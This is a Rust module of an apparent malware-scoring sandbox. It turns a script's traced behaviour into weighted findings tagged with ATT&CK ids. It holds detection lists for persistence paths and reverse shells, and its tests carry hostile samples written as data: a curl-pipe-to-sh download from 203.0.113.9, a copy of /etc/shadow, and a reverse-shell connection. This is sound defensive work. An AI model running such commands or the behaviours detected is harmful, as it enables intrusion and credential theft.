//! The dynamic view: what a script did when it ran in the sandbox, and how dangerous that is.
//!
//! [`Behaviour`] is the summary of one sandboxed run (the `warden-sandbox` crate records it from
//! the system-call trace and the processes' memory); [`assess`] turns it into findings, each
//! with a weight and ATT&CK ids, and a 0–100 score combined like the signature view's
//! (`1 − Π(1 − wᵢ)`). The command lines the run executed and the strings left in its memory are
//! run through the same signatures as the submitted text: what a script really runs shows up
//! even when no static decoder could unwrap it.

use std::borrow::Cow;

use serde::{Deserialize, Serialize};

use crate::PatternFound;
use crate::signatures::Signatures;
use crate::tokens;

/// Weight of a signature found on a command line the run executed.
const EXEC_FACTOR: f32 = 1.0;
/// Weight of a signature found only in a process's memory (weaker evidence: text the
/// process held, not necessarily ran).
const MEMORY_FACTOR: f32 = 0.6;
/// Findings kept per kind, so a noisy run cannot grow a verdict without bound.
const MAX_FINDINGS_PER_KIND: usize = 16;
/// Weakest signature counted from memory: the heap also holds data a process merely read
/// (file contents, directory listings), where weak patterns such as discovery match by
/// chance.
const MEMORY_MIN_WEIGHT: f32 = 0.4;

/// One process the run started (a successful `execve`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ProcessRun {
    pub pid: u32,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub parent: Option<u32>,
    pub program: String,
    pub argv: Vec<String>,
}

impl ProcessRun {
    pub fn command_line(&self) -> String {
        self.argv.join(" ")
    }
}

/// What a run did to one file.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileOp {
    pub pid: u32,
    /// `write`, `create`, `delete`, `rename`, `mkdir`, `chmod`, `timestomp`.
    pub op: String,
    pub path: String,
    /// Where a rename went.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub to: Option<String>,
    /// Mode bits given to chmod/creat, when the call had them.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub mode: Option<u32>,
    /// The error the sandbox answered (`EROFS`, `EACCES` …), `None` when it succeeded.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

/// A network connection attempted (never made: the sandbox has no network).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Connection {
    pub pid: u32,
    /// The program that made the call.
    pub program: String,
    /// `connect`, `sendto`, `bind` or `listen`.
    pub call: String,
    /// `inet`, `inet6` or `unix`.
    pub family: String,
    pub address: String,
    pub port: u16,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    /// The socket was then made the process's standard input or output (`dup2` onto 0/1/2):
    /// the mark of a reverse shell.
    #[serde(default)]
    pub onto_stdio: bool,
}

/// A change of identity or capability attempted.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PrivilegeChange {
    pub pid: u32,
    /// The call (`setuid`, `capset`, `ptrace` …) or `exec` for sudo/su/pkexec/doas.
    pub call: String,
    pub detail: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

/// One process's memory at its end (or when the run was stopped).
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct MemoryView {
    pub pid: u32,
    pub program: String,
    /// Mappings both writable and executable (`/proc/PID/maps` lines).
    pub wx_regions: Vec<String>,
    /// Printable strings of its writable anonymous memory (heap, stack, anonymous maps),
    /// searched for the static patterns; not serialised (the matches are).
    #[serde(skip)]
    pub strings: Vec<String>,
    pub bytes_read: u64,
}

/// The summary of one sandboxed run.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct Behaviour {
    /// The interpreter the script ran under.
    pub interpreter: String,
    pub duration_ms: u64,
    /// Exit code of the script, or how it ended (`signal SIGKILL`, `timeout`).
    pub exit: String,
    pub timed_out: bool,
    /// Limits the run ran into (processes, memory, CPU time, file size, trace size).
    pub limits_hit: Vec<String>,
    pub processes: Vec<ProcessRun>,
    pub files: Vec<FileOp>,
    pub connections: Vec<Connection>,
    pub privilege: Vec<PrivilegeChange>,
    pub memory: Vec<MemoryView>,
    /// Records not kept because a list reached its bound.
    pub dropped: u64,
    /// The start of what the script printed.
    pub stdout: String,
    pub stderr: String,
}

/// The dynamic view of a verdict: the run and what it showed.
#[derive(Debug, Clone, Serialize)]
pub struct Trace {
    /// 0–100.
    pub score: f32,
    pub findings: Vec<PatternFound>,
    pub behaviour: Behaviour,
}

/// Scores a run.
pub fn assess(signatures: &Signatures, b: Behaviour) -> Trace {
    let mut f = Findings::default();
    executed(signatures, &b, &mut f);
    network(&b, &mut f);
    files(&b, &mut f);
    privilege(&b, &mut f);
    memory(signatures, &b, &mut f);
    limits(&b, &mut f);
    let score = 100.0 * (1.0 - f.0.iter().fold(1.0f32, |acc, p| acc * (1.0 - p.weight)));
    Trace {
        score,
        findings: f.0,
        behaviour: b,
    }
}

/// The run in a sentence or two, for the verdict's explanation.
pub fn explain(t: &Trace) -> String {
    let b = &t.behaviour;
    let mut out = format!(
        " In the sandbox ({} ms{}) it started {} process{}, touched {} file{} and tried {} connection{}",
        b.duration_ms,
        if b.timed_out {
            ", stopped at the time limit"
        } else {
            ""
        },
        b.processes.len(),
        if b.processes.len() == 1 { "" } else { "es" },
        b.files.len(),
        if b.files.len() == 1 { "" } else { "s" },
        b.connections.iter().filter(|c| c.family != "unix").count(),
        if b.connections.iter().filter(|c| c.family != "unix").count() == 1 {
            ""
        } else {
            "s"
        },
    );
    let mut strongest: Vec<&PatternFound> = t.findings.iter().collect();
    strongest.sort_by(|a, b| b.weight.total_cmp(&a.weight));
    if strongest.is_empty() {
        out.push_str("; nothing it did is known to be harmful.");
    } else {
        let listed: Vec<String> = strongest
            .iter()
            .take(3)
            .map(|p| format!("{} [{}]", p.name, p.evidence))
            .collect();
        out.push_str(&format!(". What it did: {}.", listed.join("; ")));
    }
    out
}

#[derive(Default)]
struct Findings(Vec<PatternFound>);

impl Findings {
    /// Adds a finding unless the same one (same id, same evidence once the process id is
    /// left out) is there, or its kind is full.
    fn add(
        &mut self,
        id: &str,
        name: String,
        attack: &[&'static str],
        weight: f32,
        evidence: String,
    ) {
        let same = |p: &PatternFound| p.id == id && strip_pid(&p.evidence) == strip_pid(&evidence);
        if self.0.iter().filter(|p| p.id == id).count() >= MAX_FINDINGS_PER_KIND
            || self.0.iter().any(same)
        {
            return;
        }
        self.0.push(PatternFound {
            id: id.to_string(),
            name,
            attack: attack.iter().map(|t| Cow::Borrowed(*t)).collect(),
            weight: weight.clamp(0.0, 0.99),
            evidence,
            layer: 0,
            trained: None,
        });
    }
}

/// The signatures over every command line the run executed, and dual-use programs by what
/// they were asked to do.
fn executed(signatures: &Signatures, b: &Behaviour, f: &mut Findings) {
    // The interpreter running the script itself is not evidence of anything.
    for p in b.processes.iter().skip(1) {
        let line = p.command_line();
        for h in signatures.scan(std::iter::once(line.as_str())) {
            f.add(
                &format!("ran-{}", h.id),
                format!("ran: {}", h.name),
                h.attack,
                h.weight * EXEC_FACTOR,
                format!("pid {}: {}", p.pid, h.evidence),
            );
        }
        let toks = tokens::tokenize(&line, crate::Shell::Sh);
        for d in crate::dual_use::assess(&toks) {
            f.add(
                "ran-dual-use",
                format!("ran the dual-use program `{}`", d.program),
                d.attack,
                d.weight * EXEC_FACTOR,
                format!("pid {}: {}", p.pid, d.evidence),
            );
        }
    }
}

fn network(b: &Behaviour, f: &mut Findings) {
    for c in &b.connections {
        if c.family == "unix" {
            continue;
        }
        let loopback =
            c.address.starts_with("127.") || c.address == "::1" || c.address == "0.0.0.0";
        let at = format!("{}:{} (pid {})", c.address, c.port, c.pid);
        match c.call.as_str() {
            "bind" | "listen" if !loopback || c.call == "listen" => f.add(
                "listens",
                "opened a listening socket (a bind shell or a server)".into(),
                &["T1059", "T1571"],
                0.5,
                at,
            ),
            "connect" | "sendto" if c.onto_stdio => f.add(
                "reverse-shell",
                "connected out and handed the connection to a shell's input and output".into(),
                &["T1059", "T1095"],
                0.9,
                at,
            ),
            "connect" if is_shell(&c.program) => f.add(
                "shell-socket",
                "a shell opened a network connection itself (/dev/tcp, a reverse shell)".into(),
                &["T1059.004", "T1095"],
                0.8,
                at,
            ),
            "connect" | "sendto" if c.port == 53 => f.add(
                "dns-lookup",
                "looked up a name (the destination is in the command lines)".into(),
                &["T1071.004"],
                0.05,
                at,
            ),
            "connect" | "sendto" if !loopback => f.add(
                "connects-out",
                "tried to reach another host (blocked and recorded)".into(),
                &["T1071"],
                0.3,
                at,
            ),
            _ => {}
        }
    }
}

/// Places where a write makes code run again later, and what writing there means.
const PERSISTENCE: &[(&str, &str, &[&str])] = &[
    ("/etc/cron", "a cron table", &["T1053.003"]),
    ("/var/spool/cron", "a cron table", &["T1053.003"]),
    ("/etc/anacrontab", "a cron table", &["T1053.003"]),
    ("/var/spool/at", "an at job", &["T1053.002"]),
    ("/etc/systemd/", "a systemd unit", &["T1543.002"]),
    ("/lib/systemd/", "a systemd unit", &["T1543.002"]),
    ("/usr/lib/systemd/", "a systemd unit", &["T1543.002"]),
    ("/.config/systemd/", "a systemd user unit", &["T1543.002"]),
    ("/etc/init.d/", "an init script", &["T1037.004"]),
    ("/etc/rc.local", "rc.local", &["T1037.004"]),
    ("/etc/profile", "a login profile", &["T1546.004"]),
    ("/etc/bash.bashrc", "a login profile", &["T1546.004"]),
    ("/.bashrc", "a shell profile", &["T1546.004"]),
    ("/.bash_profile", "a shell profile", &["T1546.004"]),
    ("/.profile", "a shell profile", &["T1546.004"]),
    ("/.zshrc", "a shell profile", &["T1546.004"]),
    (
        "/.ssh/authorized_keys",
        "SSH authorized keys",
        &["T1098.004"],
    ),
    (
        "/etc/ld.so.preload",
        "the dynamic loader's preload list",
        &["T1574.006"],
    ),
    ("/etc/sudoers", "sudoers", &["T1548.003"]),
    ("/etc/passwd", "the account database", &["T1136.001"]),
    (
        "/etc/shadow",
        "the password database",
        &["T1136.001", "T1098"],
    ),
    ("/etc/xdg/autostart", "desktop autostart", &["T1547.013"]),
    ("/.config/autostart", "desktop autostart", &["T1547.013"]),
    ("/etc/update-motd.d/", "a login message script", &["T1037"]),
    ("/etc/pam.d/", "a PAM module configuration", &["T1556.003"]),
];

fn files(b: &Behaviour, f: &mut Findings) {
    let executed: Vec<&str> = b.processes.iter().map(|p| p.program.as_str()).collect();
    for op in &b.files {
        let at = format!(
            "{} {}{} (pid {})",
            op.op,
            op.path,
            outcome(&op.error),
            op.pid
        );
        let target = op.to.as_deref().unwrap_or(&op.path);
        let persistent = PERSISTENCE
            .iter()
            .find(|(p, _, _)| target.contains(p) || op.path.contains(p));
        if let (true, Some((_, what, attack))) = (op.op != "delete", persistent) {
            f.add(
                "persistence-write",
                format!("wrote to {what}, where code runs again later"),
                attack,
                0.7,
                at.clone(),
            );
            continue;
        }
        file_op(op, &executed, at, f);
    }
}

/// What one file operation that is not persistence says: logs deleted or overwritten, the
/// script deleting what it ran, setuid bits, a dropped file made executable and run,
/// timestamps set.
fn file_op(op: &FileOp, executed: &[&str], at: String, f: &mut Findings) {
    match op.op.as_str() {
        "delete" if op.path.starts_with("/var/log/") || is_history(&op.path) => f.add(
            "log-deleted",
            "deleted logs or shell history".into(),
            &["T1070.002", "T1070.003"],
            0.6,
            at,
        ),
        "delete" if executed.contains(&op.path.as_str()) || op.path.ends_with("/payload.sh") => f
            .add(
                "self-delete",
                "deleted a program it ran (covering its tracks)".into(),
                &["T1070.004"],
                0.3,
                at,
            ),
        "write" | "create" if op.path.starts_with("/var/log/") || is_history(&op.path) => f.add(
            "log-tampered",
            "wrote over logs or shell history".into(),
            &["T1070.002", "T1070.003"],
            0.5,
            at,
        ),
        "chmod" if op.mode.is_some_and(|m| m & 0o6000 != 0) => f.add(
            "setuid-bit",
            "set the setuid or setgid bit on a file".into(),
            &["T1548.001"],
            0.7,
            at,
        ),
        "chmod"
            if op.mode.is_some_and(|m| m & 0o111 != 0) && executed.contains(&op.path.as_str()) =>
        {
            f.add(
                "dropped-and-ran",
                "made a file executable and ran it".into(),
                &["T1105", "T1059.004"],
                0.5,
                at,
            )
        }
        "timestomp" => f.add(
            "timestomp",
            "set a file's timestamps to chosen times".into(),
            &["T1070.006"],
            0.5,
            at,
        ),
        _ => {}
    }
}

/// Evidence without the process it names (`pid 12: x`, `x (pid 12)`, `pid 12 (sh): x`).
fn strip_pid(evidence: &str) -> &str {
    let e = match evidence.strip_prefix("pid ") {
        Some(rest) => rest.split_once(": ").map_or(rest, |(_, x)| x),
        None => evidence,
    };
    e.rsplit_once(" (pid ").map_or(e, |(x, _)| x)
}

fn is_shell(program: &str) -> bool {
    let name = program.rsplit('/').next().unwrap_or(program);
    matches!(
        name,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "busybox"
    )
}

fn is_interpreter(program: &str) -> bool {
    let name = program.rsplit('/').next().unwrap_or(program);
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    is_shell(program)
        || matches!(
            name,
            "python"
                | "perl"
                | "ruby"
                | "php"
                | "node"
                | "lua"
                | "awk"
                | "gawk"
                | "mawk"
                | "tclsh"
                | "pwsh"
        )
}

fn is_history(path: &str) -> bool {
    [
        "/.bash_history",
        "/.zsh_history",
        "/.sh_history",
        "/.python_history",
        "/.lesshst",
    ]
    .iter()
    .any(|h| path.ends_with(h))
}

fn outcome(error: &Option<String>) -> String {
    match error {
        Some(e) => format!(" → refused ({e})"),
        None => String::new(),
    }
}

fn privilege(b: &Behaviour, f: &mut Findings) {
    for p in &b.privilege {
        let at = format!(
            "{} {}{} (pid {})",
            p.call,
            p.detail,
            outcome(&p.error),
            p.pid
        );
        match p.call.as_str() {
            "ptrace" => f.add(
                "ptrace",
                "attached to another process (injection or credential theft)".into(),
                &["T1055.008"],
                0.6,
                at,
            ),
            "exec" => f.add(
                "elevation",
                "asked for another user's rights (sudo, su, pkexec, doas)".into(),
                &["T1548.003"],
                0.35,
                at,
            ),
            _ => f.add(
                "identity-change",
                "changed its user, group or capabilities".into(),
                &["T1548"],
                0.3,
                at,
            ),
        }
    }
}

fn memory(signatures: &Signatures, b: &Behaviour, f: &mut Findings) {
    for m in &b.memory {
        // Only an interpreter's memory holds the code it ran; other programs' memory holds
        // the data they processed.
        for r in &m.wx_regions {
            f.add(
                "wx-memory",
                "held memory both writable and executable (injected or unpacked code)".into(),
                &["T1055", "T1620"],
                0.5,
                format!("pid {} ({}): {r}", m.pid, m.program),
            );
        }
        if !is_interpreter(&m.program) {
            continue;
        }
        let text = m.strings.join("\n");
        for h in signatures.scan(std::iter::once(text.as_str())) {
            if h.weight < MEMORY_MIN_WEIGHT {
                continue;
            }
            f.add(
                &format!("memory-{}", h.id),
                format!("in memory: {}", h.name),
                h.attack,
                h.weight * MEMORY_FACTOR,
                format!("pid {} ({}): {}", m.pid, m.program, h.evidence),
            );
        }
    }
}

fn limits(b: &Behaviour, f: &mut Findings) {
    for l in &b.limits_hit {
        if l.starts_with("processes") {
            f.add(
                "fork-bomb",
                "created processes until the sandbox's limit stopped it".into(),
                &["T1499"],
                0.5,
                l.clone(),
            );
        } else if l.starts_with("cpu") {
            f.add(
                "cpu-hog",
                "used CPU until the sandbox's limit stopped it".into(),
                &["T1496"],
                0.2,
                l.clone(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run() -> Behaviour {
        Behaviour {
            interpreter: "/bin/sh".into(),
            processes: vec![ProcessRun {
                pid: 2,
                parent: None,
                program: "/bin/sh".into(),
                argv: vec!["/bin/sh".into(), "/tmp/payload.sh".into()],
            }],
            ..Behaviour::default()
        }
    }

    fn ids(t: &Trace) -> Vec<&str> {
        t.findings.iter().map(|f| f.id.as_str()).collect()
    }

    #[test]
    fn a_quiet_run_scores_nothing() {
        let mut b = run();
        b.processes.push(ProcessRun {
            pid: 3,
            parent: Some(2),
            program: "/usr/bin/ls".into(),
            argv: vec!["ls".into(), "-la".into()],
        });
        b.files.push(FileOp {
            pid: 3,
            op: "create".into(),
            path: "/tmp/out.txt".into(),
            to: None,
            mode: None,
            error: None,
        });
        let t = assess(&Signatures::new(), b);
        assert!(t.findings.is_empty(), "{:?}", t.findings);
        assert_eq!(t.score, 0.0);
    }

    #[test]
    fn a_reverse_shell_and_cron_persistence_score_high() {
        let mut b = run();
        b.connections.push(Connection {
            pid: 4,
            program: "/usr/bin/python3".into(),
            call: "connect".into(),
            family: "inet".into(),
            address: "10.9.8.7".into(),
            port: 4444,
            error: Some("ENETUNREACH".into()),
            onto_stdio: true,
        });
        b.files.push(FileOp {
            pid: 2,
            op: "create".into(),
            path: "/etc/cron.d/update".into(),
            to: None,
            mode: None,
            error: Some("EROFS".into()),
        });
        let t = assess(&Signatures::new(), b);
        assert_eq!(ids(&t), ["reverse-shell", "persistence-write"]);
        assert!(t.score > 95.0, "{}", t.score);
        assert!(t.findings[1].evidence.contains("refused (EROFS)"));
        assert!(t.findings[1].attack.iter().any(|a| a == "T1053.003"));
    }

    #[test]
    fn what_ran_and_what_memory_held_go_through_the_signatures() {
        let mut b = run();
        b.processes.push(ProcessRun {
            pid: 5,
            parent: Some(2),
            program: "/usr/bin/curl".into(),
            argv: vec![
                "curl".into(),
                "-s".into(),
                "http://203.0.113.9/x.sh".into(),
                "|".into(),
                "sh".into(),
            ],
        });
        b.memory.push(MemoryView {
            pid: 2,
            program: "/bin/sh".into(),
            wx_regions: vec!["7f00-7f10 rwxp 00000000 00:00 0".into()],
            strings: vec!["cat /etc/shadow > /tmp/s".into()],
            bytes_read: 10,
        });
        let t = assess(&Signatures::new(), b);
        let ids = ids(&t);
        assert!(ids.iter().any(|i| i.starts_with("ran-")), "{ids:?}");
        assert!(ids.contains(&"wx-memory"), "{ids:?}");
        assert!(ids.iter().any(|i| i.starts_with("memory-")), "{ids:?}");
    }

    #[test]
    fn findings_are_bounded_per_kind() {
        let mut b = run();
        for i in 0..100u16 {
            b.connections.push(Connection {
                pid: 2,
                program: "/usr/bin/curl".into(),
                call: "connect".into(),
                family: "inet".into(),
                address: format!("10.0.{}.{}", i / 250, i % 250),
                port: 80,
                error: None,
                onto_stdio: false,
            });
        }
        let t = assess(&Signatures::new(), b);
        assert_eq!(t.findings.len(), MAX_FINDINGS_PER_KIND);
    }
}
